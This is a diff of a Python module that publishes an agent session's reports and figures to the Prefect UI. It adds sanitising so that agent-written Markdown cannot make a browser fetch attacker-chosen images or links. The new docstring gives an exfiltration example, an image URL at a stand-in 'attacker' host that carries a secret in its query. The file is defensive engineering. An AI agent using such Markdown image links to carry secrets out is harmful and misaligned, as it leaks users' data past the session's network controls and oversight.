@@ -9,15 +9,22 @@ the version the run made before (`publish`), so the run's Artifacts tab shows ea
 flow run of the session (a `labrun resume` in a terminal) makes a version of its own; the UI's
 Artifacts page shows the latest.
 
-Figures are the images the session's phases wrote (PNG, JPEG, GIF, WebP, SVG), embedded as
-`data:` URIs, which the UI's Markdown shows (a path in the workspace means nothing to a browser).
+Figures are the images the session's phases wrote (PNG, JPEG, GIF, WebP, SVG), their bytes
+redacted, embedded as `data:` URIs, which the UI's Markdown shows (a path in the workspace means
+nothing to a browser).
+
+What the agent wrote is untrusted Markdown (`untrusted_markdown`): a browser showing it must
+fetch nothing the agent chose (an image at `https://attacker/?d=<secret>` would carry data past
+every network rule of the session), so no image but the engine's own figures is shown, raw
+HTML is shown as text and link targets as text. Every payload and description sent passes
+`shown`, whichever view made it.
 
 Publishing costs the engine nothing: a background thread follows state.json, whichever
 process saves it (the engine's, or its phase task's wherever that runs), reads the
 session's files (state.json and STATE.md are written atomically, journals are append-only;
 the agent's files through `labrun.wsfs`, no link followed) and sends what changed, at most
 once per interval, and once more when the run ends. A server that does not answer never stops
-a session: the artifacts just stop updating, with a warning in the log. Every string is redacted.
+a session: the artifacts just stop updating, with a warning in the log.
 """
 
 from __future__ import annotations
@@ -32,7 +39,7 @@ from typing import Any
 from uuid import UUID
 
 from labrun.idea import slugify
-from labrun.secrets import redact
+from labrun.secrets import redact, redact_bytes, redact_data
 from labrun.session import Session
 from labrun.settings import settings
 from labrun.state import state_md_text
@@ -53,8 +60,17 @@ FIGURE_BYTES = 1 << 20
 """A figure larger than this is named, not shown: the artifact travels whole at each update."""
 FIGURES_BYTES = 4 << 20
 REPORT_BYTES = 1 << 20
-LOCAL_IMAGE = re.compile(r"!\[([^\]]*)\]\((?!https?:|data:)([^)\s]+)[^)]*\)")
+LOCAL_IMAGE = re.compile(r"!\[([^\]]*)\]\((?![a-zA-Z][a-zA-Z0-9+.-]*:)([^)\s]+)[^)]*\)")
 """An image of a Markdown text linked by its path in the workspace."""
+IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)")
+LINK = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)")
+LINK_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]]+\]:)", re.MULTILINE)
+"""`[name]: URL`, which `![name]` would show as an image."""
+HTML_COMMENT = re.compile(r"<!--.*?-->", re.DOTALL)
+HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
+"""What opens a tag, a comment, a declaration or an autolink; `a < b` and `x<5` are left."""
+ENGINE_FIGURE = re.compile(r"!\[([^\]]*)\]\((data:image/[a-z+]+;base64,[A-Za-z0-9+/=]*)\)")
+URL_CHARS = 120
 
 
 def artifact_key(title: str, session_id: str, kind: str) -> str:
@@ -120,6 +136,44 @@ def verdict_markdown(report: dict[str, Any]) -> str:
     return "\n".join(lines) + "\n"
 
 
+def _url(url: str) -> str:
+    return url if len(url) <= URL_CHARS else url[: URL_CHARS - 1] + "…"
+
+
+def untrusted_markdown(text: str, engine_figures: bool = False) -> str:
+    """Markdown the agent wrote (or holding what it chose), made safe for a browser to show:
+    every image becomes a line naming it, link targets are shown as text, raw HTML is shown
+    as text (an HTML comment, shown as nothing, is dropped). `engine_figures`: the figures
+    view, whose `data:` images (bytes the engine read and redacted) stay. Code blocks are
+    treated alike: telling where one truly ends takes a full parser, and a wrong guess would
+    let an image through."""
+    kept: list[str] = []
+    if engine_figures:  # set aside, so the passes below cannot touch them
+        def keep(m: re.Match[str]) -> str:
+            kept.append(m[0])
+            return f"\0{len(kept) - 1}\0"
+        text = ENGINE_FIGURE.sub(keep, text.replace("\0", ""))
+    text = IMAGE.sub(lambda m: f"*(image `{_url(m[2])}`: not shown)*", text)
+    text = LINK.sub(lambda m: f"{m[1]} (`{_url(m[2])}`)" if m[2] else m[1], text)
+    text = HTML_START.sub("&lt;", HTML_COMMENT.sub("", text))
+    text = LINK_DEFINITION.sub(r"\1\\[", text)
+    text = text.replace("![", "!\\[")  # what the patterns above missed: a reference, a nested bracket
+    return re.sub(r"\0(\d+)\0", lambda m: kept[int(m[1])], text) if kept else text
+
+
+def shown(artifact, kind: str) -> tuple[Any, str | None]:
+    """What is sent of `artifact` (a `prefect.artifacts.Artifact` of the view `kind`): its
+    data and description, redacted, Markdown made safe (`untrusted_markdown`). Every view
+    passes here, the engine's own text too: it quotes the agent's."""
+    description = untrusted_markdown(redact(artifact.description)) if artifact.description else artifact.description
+    if artifact.type == "markdown":
+        artifact = artifact.model_copy(update={"markdown": untrusted_markdown(redact(artifact.markdown),
+                                                                              engine_figures=kind == "figures")})
+    elif artifact.type == "table":
+        artifact = artifact.model_copy(update={"table": redact_data(artifact.table)})
+    return artifact.format(), description
+
+
 def read_agent_text(root: Path, rel: str, limit: int = REPORT_BYTES) -> str | None:
     """A file the agent wrote, as the workspace holds it (no link followed), redacted; one
     line in italics when it cannot be read; None when it is not there."""
@@ -133,7 +187,7 @@ def read_agent_text(root: Path, rel: str, limit: int = REPORT_BYTES) -> str | No
 
 def report_markdown(root: Path) -> str:
     """REPORT.md, the engine's results section in it; an image it links by its path in the
-    workspace is named instead (the figures artifact shows it)."""
+    workspace is named instead (the figures artifact shows it), any other as `shown` names it."""
     text = read_agent_text(root, "REPORT.md")
     if text is None:
         return "*No REPORT.md yet: the documentation phase writes it.*\n"
@@ -170,8 +224,10 @@ def figures_markdown(root: Path, paths: list[str]) -> str:
                          "it is in the workspace")
             continue
         left -= len(data)
-        uri = f"data:{FIGURE_TYPES[Path(rel).suffix.lower()]};base64,{base64.b64encode(data).decode()}"
-        parts.append(f"### {_md(rel)}\n\n![{_md(rel).replace(']', '')}]({uri})\n")
+        clean = redact_bytes(data)
+        note = "\n\n*Secrets redacted from its bytes: it may not display.*" if clean != data else ""
+        uri = f"data:{FIGURE_TYPES[Path(rel).suffix.lower()]};base64,{base64.b64encode(clean).decode()}"
+        parts.append(f"### {_md(rel)}{note}\n\n![{_md(rel).replace(']', '')}]({uri})\n")
     return "\n".join(parts) + "\n"
 
 
@@ -282,7 +338,7 @@ class SessionArtifacts:
         views = self.views()
         with self._send_lock, get_client(sync_client=True) as client:
             for kind, value in views.items():
-                self.ids[kind] = publish(client, self._artifact(kind, value))
+                self.ids[kind] = publish(client, self._artifact(kind, value), kind)
             self.sent = views
             self.publishes += 1
 
@@ -296,7 +352,8 @@ class SessionArtifacts:
             return
         with self._send_lock, get_client(sync_client=True) as client:
             for kind, value in changed.items():
-                client.update_artifact(self.ids[kind], ArtifactUpdate(data=self._artifact(kind, value).format()))
+                data, _ = shown(self._artifact(kind, value), kind)
+                client.update_artifact(self.ids[kind], ArtifactUpdate(data=data))
                 self.sent[kind] = value
             self.publishes += 1
 
@@ -306,11 +363,11 @@ class SessionArtifacts:
                     self.session_id, redact(str(error).splitlines()[0] if str(error) else type(error).__name__))
 
 
-def publish(client, artifact) -> UUID:
-    """`artifact` (a `prefect.artifacts.Artifact` with its key) in this flow run, once: the
-    version the run made before (a retry, or the resume after a review, runs the same flow
-    run again) updated in place, else a new one. Prefect's `create_*_artifact` would add a
-    version at every run, each shown on the run's Artifacts tab."""
+def publish(client, artifact, kind: str) -> UUID:
+    """`artifact` (a `prefect.artifacts.Artifact` with its key, of the view `kind`) in this
+    flow run, once, as `shown`: the version the run made before (a retry, or the resume after
+    a review, runs the same flow run again) updated in place, else a new one. Prefect's
+    `create_*_artifact` would add a version at every run, each shown on the run's Artifacts tab."""
     from prefect.client.schemas.actions import ArtifactCreate, ArtifactUpdate
     from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId, ArtifactFilterKey
     from prefect.client.schemas.sorting import ArtifactSort
@@ -318,29 +375,29 @@ def publish(client, artifact) -> UUID:
 
     ctx = FlowRunContext.get()
     run = ctx.flow_run.id if ctx and ctx.flow_run else None
-    data = artifact.format()
+    data, description = shown(artifact, kind)
     if run is not None:
         made = client.read_artifacts(
             artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=[artifact.key]),
                                            flow_run_id=ArtifactFilterFlowRunId(any_=[run])),
             sort=ArtifactSort.CREATED_DESC, limit=1)
         if made:
-            client.update_artifact(made[0].id, ArtifactUpdate(data=data, description=artifact.description))
+            client.update_artifact(made[0].id, ArtifactUpdate(data=data, description=description))
             return made[0].id
-    return client.create_artifact(ArtifactCreate(type=artifact.type, key=artifact.key, description=artifact.description,
+    return client.create_artifact(ArtifactCreate(type=artifact.type, key=artifact.key, description=description,
                                                  flow_run_id=run, data=data)).id
 
 
 def publish_markdown(title: str, session_id: str, kind: str, markdown: str, description: str) -> UUID | None:
-    """One more Markdown artifact of the session in this flow run (`publish`), redacted; None,
-    with a warning, when the server does not take it."""
+    """One more Markdown artifact of the session in this flow run (`publish`); None, with a
+    warning, when the server does not take it."""
     from prefect.artifacts import MarkdownArtifact
     from prefect.client.orchestration import get_client
 
     try:
         with get_client(sync_client=True) as client:
-            return publish(client, MarkdownArtifact(key=artifact_key(title, session_id, kind), markdown=redact(markdown),
-                                                    description=redact(description)))
+            return publish(client, MarkdownArtifact(key=artifact_key(title, session_id, kind), markdown=markdown,
+                                                    description=description), kind)
     except Exception as e:  # the UI's view is never worth a session
         log.warning("the Prefect UI's %s artifact of session %s was not published: %s", kind, session_id,
                     redact(str(e).splitlines()[0] if str(e) else type(e).__name__))
